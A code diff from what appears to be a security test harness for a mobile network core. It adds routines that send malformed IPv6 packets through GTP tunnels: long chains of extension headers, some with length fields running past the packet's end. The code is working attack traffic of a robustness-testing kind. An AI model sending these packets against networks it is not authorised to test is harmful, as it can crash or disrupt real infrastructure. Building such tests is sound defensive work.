@@ -10,7 +10,7 @@
 
 #define COUNT(array) (sizeof(array) / sizeof *(array))
 
-enum { SESSION = 1, PACKET_ROOM = 1500, MOMENT_MS = 5, ANSWER_MS = 20, IP_HEADER = 20 };
+enum { SESSION = 1, PACKET_ROOM = 1500, LONGEST_CHAIN = 150, MOMENT_MS = 5, ANSWER_MS = 20, IP_HEADER = 20 };
 
 /* --- Tunnels, the attacker's own and a victim's --- */
 
@@ -326,6 +326,41 @@ static void chain_extensions(struct attack *attack, uint32_t teid)
     emit(attack, BYTES(packet));
 }
 
+/* An IPv6 packet whose extension headers are all of one kind, each with a length field as told, and UDP behind them. */
+static void chain_inner(struct attack *attack, uint8_t kind, uint8_t length, unsigned count)
+{
+    enum { HEADER = 40, EXTENSION = 8, UDP = 17 };
+    uint8_t packet[HEADER + LONGEST_CHAIN * EXTENSION + EXTENSION] = {0x60, [6] = kind, [7] = 64, [8] = 0x20,
+                                                                      1,    0x0d,       0xb8};
+    const size_t size = HEADER + ((size_t)count + 1) * EXTENSION;
+    packet[4] = (uint8_t)((size - HEADER) >> 8);
+    packet[5] = (uint8_t)(size - HEADER);
+    memcpy(packet + 24, packet + 8, 4);
+    for (unsigned i = 0; i < count; i++) {
+        packet[HEADER + i * EXTENSION] = i + 1 < count ? kind : UDP;
+        packet[HEADER + i * EXTENSION + 1] = length;
+    }
+    emit_in_tunnel(attack, own_tunnel(attack)->uplink_teid, bytes_of(packet, size));
+    let_it_work(attack);
+}
+
+static void play_chains(struct attack *attack)
+{
+    static const struct {
+        const char *name;
+        uint8_t kind;
+    } kinds[] = {{"hop-by-hop options", 0},      {"routing headers", 43},     {"fragment headers", 44},
+                 {"authentication headers", 51}, {"destination options", 60}, {"mobility headers", 135}};
+    static const unsigned counts[] = {1, 8, 9, LONGEST_CHAIN};
+    for (size_t i = 0; i < COUNT(kinds); i++) {
+        for (size_t j = 0; j < COUNT(counts); j++)
+            if (attack_variant(attack, "a chain of %u %s", counts[j], kinds[i].name))
+                chain_inner(attack, kinds[i].kind, 0, counts[j]);
+        if (attack_variant(attack, "%s that reach beyond the packet", kinds[i].name))
+            chain_inner(attack, kinds[i].kind, 255, 2);
+    }
+}
+
 void hostile_malformed_packets(struct attack *attack)
 {
     for (size_t i = 0; i < COUNT(inners); i++)
@@ -347,6 +382,7 @@ void hostile_malformed_packets(struct attack *attack)
             }
     if (attack_variant(attack, "extension headers without end"))
         chain_extensions(attack, own_tunnel(attack)->uplink_teid);
+    play_chains(attack);
     if (attack->playing)
         attack_forget_phone(attack);
 }
